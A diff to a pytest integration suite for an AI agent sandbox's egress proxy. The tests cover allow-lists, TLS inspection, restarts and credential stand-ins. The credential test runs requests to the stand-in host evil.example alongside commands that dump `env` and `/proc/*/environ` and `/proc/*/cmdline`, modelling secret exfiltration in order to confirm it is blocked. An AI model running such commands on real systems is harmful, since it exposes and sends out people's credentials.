@@ -1,7 +1,8 @@
 """Programs that the agent starts reach allowed hosts through the relay, and are told why they don't reach others.
 
-All real: the backend, the agent's program with its `bash` tool, the relay, a door of egress, TLS to a server. Only the
-names are ours: the resolver leads `good.example` to a public address and the dial leads that to the server.
+All real: the backend, the agent's program with its `bash` tool, the relay, a door of egress, TLS to egress and from it
+to a server. Only the names are ours: the resolver leads `good.example` to a public address and the dial leads that to
+the server, whose authority egress trusts.
 """
 
 from __future__ import annotations
@@ -16,7 +17,7 @@ import tempfile
 import threading
 import zipfile
 from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
-from contextlib import asynccontextmanager
+from contextlib import AsyncExitStack, asynccontextmanager
 from pathlib import Path
 
 import pytest
@@ -41,9 +42,48 @@ TRUST = (
 Bash = Callable[[str], Awaitable[str]]
 
 
-class _Quiet(http.server.SimpleHTTPRequestHandler):
+class _Site(http.server.SimpleHTTPRequestHandler):
+    """Files, and git repositories that can be pushed to."""
+
     def log_message(self, format: str, *args: object) -> None:
         return
+
+    def do_GET(self) -> None:
+        if ".git/" in self.path:
+            self._git()
+        else:
+            super().do_GET()
+
+    def do_POST(self) -> None:
+        self._git()
+
+    def _git(self) -> None:
+        path, _, query = self.path.partition("?")
+        env = {
+            "PATH": os.environ["PATH"], "GIT_PROJECT_ROOT": self.directory, "GIT_HTTP_EXPORT_ALL": "1",
+            "REMOTE_USER": "t", "REQUEST_METHOD": self.command, "PATH_INFO": path, "QUERY_STRING": query,
+            "CONTENT_TYPE": self.headers.get("Content-Type", ""),
+            "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding", ""),
+            "GIT_PROTOCOL": self.headers.get("Git-Protocol", ""),
+        }
+        ran = subprocess.run(["git", "http-backend"], env=env, input=self._body(), capture_output=True, check=True)
+        head, _, body = ran.stdout.partition(b"\r\n\r\n")
+        fields = dict(line.split(": ", 1) for line in head.decode().split("\r\n"))
+        self.send_response(int(fields.pop("Status", "200").split()[0]))
+        for name, value in fields.items():
+            self.send_header(name, value)
+        self.end_headers()
+        self.wfile.write(body)
+
+    def _body(self) -> bytes:
+        if self.headers.get("Transfer-Encoding") != "chunked":
+            return self.rfile.read(int(self.headers.get("Content-Length", "0")))
+        body = b""
+        while size := int(self.rfile.readline(), 16):
+            body += self.rfile.read(size)
+            self.rfile.readline()
+        self.rfile.readline()
+        return body
 
 
 @pytest.fixture(scope="module")
@@ -72,11 +112,11 @@ def site(tmp_path_factory: pytest.TempPathFactory, authority: Authority) -> Iter
         for command in (
             ("init", "-q", "."), ("add", "README"), (*who, "commit", "-q", "-m", "one"),
             ("clone", "-q", "--bare", ".", str(root / "tiny.git")),
-            ("--git-dir", str(root / "tiny.git"), "update-server-info"),
+            ("--git-dir", str(root / "tiny.git"), "config", "http.receivepack", "true"),
         ):
             subprocess.run(["git", *command], cwd=work, check=True, capture_output=True)
     server = http.server.ThreadingHTTPServer(
-        ("127.0.0.1", 0), functools.partial(_Quiet, directory=str(root))
+        ("127.0.0.1", 0), functools.partial(_Site, directory=str(root))
     )
     server.socket = authority.server().wrap_socket(server.socket, server_side=True)
     threading.Thread(target=server.serve_forever, daemon=True).start()
@@ -93,9 +133,14 @@ def home() -> Iterator[Home]:
     shutil.rmtree(root, ignore_errors=True)
 
 
+def world(outside: Outside, authority: Authority) -> World:
+    """As egress sees it; it trusts the servers' authority."""
+    return World(resolve=outside.resolve, dial=outside.dial, is_own=lambda _: False, tls=authority.client)
+
+
 @asynccontextmanager
 async def agent(backend, new_spec, folders, egress: Gate, ca: Path | None = None) -> AsyncIterator[Bash]:
-    """A worker behind a door of `egress`; gives its bash tool. The servers' authority is in the group's folder."""
+    """A worker behind a door of `egress`; gives its bash tool. `ca`: what its programs trust instead of egress."""
     group, session = folders("group", "session")
     if ca:
         shutil.copy(ca, group / "ca.pem")
@@ -136,30 +181,58 @@ async def agent(backend, new_spec, folders, egress: Gate, ca: Path | None = None
         await sandbox.kill()
 
 
+#: By hand: `fetch` knows proxies from Node 22.21 and 24 on only. What it trusts it has from the environment.
+NODE = " ".join((
+    'const tls = require("tls"), host = process.argv[1].split("/")[2], proxy = new URL(process.env.https_proxy);',
+    'require("http").request({host: proxy.hostname, port: proxy.port, method: "CONNECT", path: host + ":443"})',
+    '.on("connect", (answer, socket) => {',
+    'if (answer.statusCode != 200) { console.log(answer.statusCode, answer.statusMessage); process.exit(1); }',
+    'const inside = tls.connect({socket, servername: host},',
+    '() => inside.end("GET /hello.txt HTTP/1.0\\r\\n\\r\\n")); inside.pipe(process.stdout); }).end();',
+))
+#: A commit that is longer than git sends in one piece.
+PUSH = (
+    "rm -rf /tmp/p; git clone -q https://{0}/tiny.git /tmp/p && cd /tmp/p && head -c 300000 /dev/urandom >big "
+    "&& git add big && git -c user.name=t -c user.email=t@t commit -q -m two "
+    "&& git -c http.postBuffer=65536 push -q origin HEAD:refs/heads/b-$$ && git ls-remote https://{0}/tiny.git b-$$"
+)
+
+
 async def test_programs_inside_reach_an_allowed_host_and_are_told_why_not_another(
     backend, new_spec, folders, home, site, authority,
 ):
+    """Egress reads their TLS, and they do not notice."""
     python = backend.agent_argv()[0]
     fetch = "import sys, urllib.request as u; print(u.urlopen(sys.argv[1], timeout=30).read().decode())"
+    requests = "import sys; from pip._vendor import requests as r; print(r.get(sys.argv[1], timeout=30).text)"
+    httpx = (
+        'import sys; sys.path.append("/opt/microclaw/site"); import httpx2; '
+        "print(httpx2.get(sys.argv[1], timeout=30).text)"
+    )
     commands = {
         "curl": "curl -sS --max-time 30 https://{}/hello.txt",
         "urllib": f"{python} -c '{fetch}' https://{{}}/hello.txt",
+        "requests": f"{python} -c '{requests}' https://{{}}/hello.txt",
+        "httpx2": f"{python} -c '{httpx}' https://{{}}/hello.txt",
         "pip": f"{python} -m pip download -q --retries 0 --no-deps --no-cache-dir -d dl -i https://{{}}/simple tiny "
                "&& ls dl",
         "git": "rm -rf /tmp/c; git clone -q https://{}/tiny.git /tmp/c && cat /tmp/c/README",
+        "push": PUSH,
+        "node": "node -e '" + NODE.replace("{", "{{").replace("}", "}}") + "' https://{}/hello.txt",
     }
-    hello, expected = "hello from good.example", {"pip": "tiny-1.0-py3-none-any.whl", "git": "cloned"}
+    needs = {"urllib": "true", "requests": f"{python} -c 'import pip._vendor.requests'", "push": "git --version",
+             "pip": f"{python} -m pip --version",
+             "httpx2": f"{python} -c '{httpx.partition('print')[0]}'"}
+    hello = "hello from good.example"
+    expected = {"pip": "tiny-1.0-py3-none-any.whl", "git": "cloned", "push": "refs/heads/b-"}
     outside = Outside({"good.example": [PUBLIC], "evil.example": [PUBLIC]}, site)
     async with (
-        gate(home, backend="local", allow=["good.example"], world=outside.world()) as egress,
-        agent(backend, new_spec, folders, egress, authority.ca) as bash,
+        gate(home, backend="local", allow=["good.example"], world=world(outside, authority), read_tls="all") as egress,
+        agent(backend, new_spec, folders, egress) as bash,
     ):
         tried = []
         for name, command in commands.items():
-            program = "python3" if "python" in command else name
-            if name == "pip" and "No module" in await bash(f"{python} -m pip --version 2>&1"):
-                continue
-            if "missing" in await bash(f"command -v {program} >/dev/null || echo missing"):
+            if "missing" in await bash(f"({needs.get(name, f'command -v {name}')}) >/dev/null 2>&1 || echo missing"):
                 continue
             tried.append(name)
             got = await bash(command.format("good.example"))
@@ -172,11 +245,67 @@ async def test_programs_inside_reach_an_allowed_host_and_are_told_why_not_anothe
             got = await bash(command.replace("https://", "http://").format("good.example"))
             assert hello not in got and "403" in got, (name, got)
             assert "[egress refused: good.example:80 is not on the allow-list" in got, (name, got)
+        print(backend.name, tried)
         # On a laptop some may be missing; `.ci/run` installs all that the host's /usr lends to bubblewrap.
         needed = commands if os.environ.get("MC_REQUIRE_ENGINE") and backend.name == "bubblewrap" else ["urllib"]
         assert set(needed) <= set(tried), tried
         assert {address for address, _ in outside.dialled} == {PUBLIC}
         assert "evil.example" not in outside.resolved
+        read = [entry for entry in egress.audit.tail(500) if entry.action == "egress.http" and entry.outcome == "allow"]
+        assert len(read) >= len(tried), "their requests were read"
+
+
+async def test_a_program_that_trusts_its_own_is_told_what_the_owner_can_do_and_then_passes_unread(
+    backend, new_spec, folders, home, site, authority,
+):
+    python = backend.agent_argv()[0]
+    fetch = "import sys, urllib.request as u; print(u.urlopen(sys.argv[1], timeout=30).read().decode())"
+    command = f"{python} -c '{fetch}' https://good.example/hello.txt 2>&1"
+    outside = Outside({"good.example": [PUBLIC]}, site)
+    async with (
+        gate(home, backend="local", allow=["good.example"], world=world(outside, authority), read_tls="all") as egress,
+        agent(backend, new_spec, folders, egress, authority.ca) as bash,
+    ):
+        assert "CERTIFICATE_VERIFY_FAILED" in await bash(command)
+        assert "`microclaw egress allow good.example --opaque`" in egress.audit.tail(1)[0].detail
+        egress.rules.change("good.example", "allow", "home", now_ms=1, opaque=True)
+        assert "hello from good.example" in await bash(command)
+        assert egress.audit.tail(1)[0].action == "egress.connect", "nothing more is known of it"
+
+
+async def test_programs_go_on_after_egress_was_started_anew(
+    backend, new_spec, folders, home, site, authority, tmp_path,
+):
+    """Its authority is another one then; a shell that was at work in between finds it, too."""
+    python = backend.agent_argv()[0]
+    fetch = "import sys, urllib.request as u; print(u.urlopen(sys.argv[1], timeout=30).read().decode())"
+    command = f"{python} -c '{fetch}' https://good.example/hello.txt 2>&1"
+    waiting = "while [ ! -e go ]; do sleep 0.1; done"
+    outside = Outside({"good.example": [PUBLIC]}, site)
+
+    def start():
+        return gate(home, backend="local", allow=["good.example"], world=world(outside, authority), read_tls="all")
+
+    async with AsyncExitStack() as stack:
+        first = await stack.enter_async_context(start())
+        bash = await stack.enter_async_context(agent(backend, new_spec, folders, first))
+        assert "hello" in await bash(command)
+        await first.stop()
+        assert "egress does not answer" in await bash(command)
+        second = await stack.enter_async_context(start())
+        assert "hello" in await bash(command)
+        under_way = asyncio.create_task(bash(f"{command}; touch ready; {waiting}; echo again; {command}"))
+        ready = tmp_path / "group" / "ready"
+        async with asyncio.timeout(TURN_S_MAX):
+            while not ready.exists():
+                await asyncio.sleep(0.05)
+        await second.stop()
+        await stack.enter_async_context(start())
+        (ready.parent / "go").touch()
+        before, _, after = (await under_way).partition("again")
+        # What reads the certificates before its tunnel is there (Python does) fails once at most.
+        assert "hello" in before and ("hello" in after or "CERTIFICATE_VERIFY_FAILED" in after)
+        assert "hello" in await bash(command)
 
 
 @pytest.fixture
@@ -202,7 +331,6 @@ async def test_ac48_a_lent_credential_is_a_stand_in_inside_and_real_at_its_host_
     port, seen = api
     real = "gh-canary-5c1e88aa-real"
     outside = Outside({"good.example": [PUBLIC], "evil.example": [PUBLIC]}, port)
-    world = World(resolve=outside.resolve, dial=outside.dial, is_own=lambda _: False, tls=authority.client)
     python = backend.agent_argv()[0]
     fetch = (
         "import os, sys, urllib.request as u; "
@@ -210,7 +338,10 @@ async def test_ac48_a_lent_credential_is_a_stand_in_inside_and_real_at_its_host_
         ".read().decode())"
     )
     async with (
-        gate(home, backend="local", allow=["good.example", "evil.example"], world=world) as egress,
+        gate(
+            home, backend="local", allow=["good.example", "evil.example"], world=world(outside, authority),
+            read_tls="all",
+        ) as egress,
         agent(backend, new_spec, folders, egress) as bash,
     ):
         assert "MC_SECRET" not in await bash("env")
@@ -218,11 +349,13 @@ async def test_ac48_a_lent_credential_is_a_stand_in_inside_and_real_at_its_host_
         egress.bindings.set(binding("hub", ["good.example"], ["home"]))
         stand_in = (await bash("echo $MC_SECRET_HUB")).strip()
         assert stand_in.startswith("mc-secret-hub-"), "there from the next program on, in a worker that lives"
-        for address in ("http://good.example/user", "http://127.0.0.1:3128/to/good.example/user"):
+        for address in (
+            "https://good.example/user", "http://good.example/user", "http://127.0.0.1:3128/to/good.example/user",
+        ):
             said = await bash(f"{python} -c '{fetch}' {address}")
             assert "GET /user HTTP/1.1" in said and "[REDACTED]" in said, said
         if "curl" in await bash("command -v curl"):
-            said = await bash('curl -sS -u "x:$MC_SECRET_HUB" http://127.0.0.1:3128/to/good.example/curl')
+            said = await bash('curl -sS -u "x:$MC_SECRET_HUB" https://good.example/curl')
             assert "GET /curl HTTP/1.1" in said, said
         if "node" in await bash("command -v node"):
             # With any version of Node: no proxy is needed for this way.
@@ -230,8 +363,10 @@ async def test_ac48_a_lent_credential_is_a_stand_in_inside_and_real_at_its_host_
             said = await bash(f'node -e "{script}" http://127.0.0.1:3128/to/good.example/node?k=$MC_SECRET_HUB')
             assert "GET /node?k=[REDACTED]" in said, said
         sent = len(seen)
-        assert sent >= 2 and all(real.encode() in head or b"Basic" in head for head in seen)
-        for address in ("http://evil.example/user", "http://127.0.0.1:3128/to/evil.example/user"):
+        assert sent >= 3 and all(real.encode() in head or b"Basic" in head for head in seen)
+        for address in (
+            "https://evil.example/user", "http://evil.example/user", "http://127.0.0.1:3128/to/evil.example/user",
+        ):
             said = await bash(f"{python} -c '{fetch}' {address}; env; cat /proc/*/environ /proc/*/cmdline")
             assert "the credential hub is for good.example:443 only" in said, said
             assert stand_in in said and real not in said
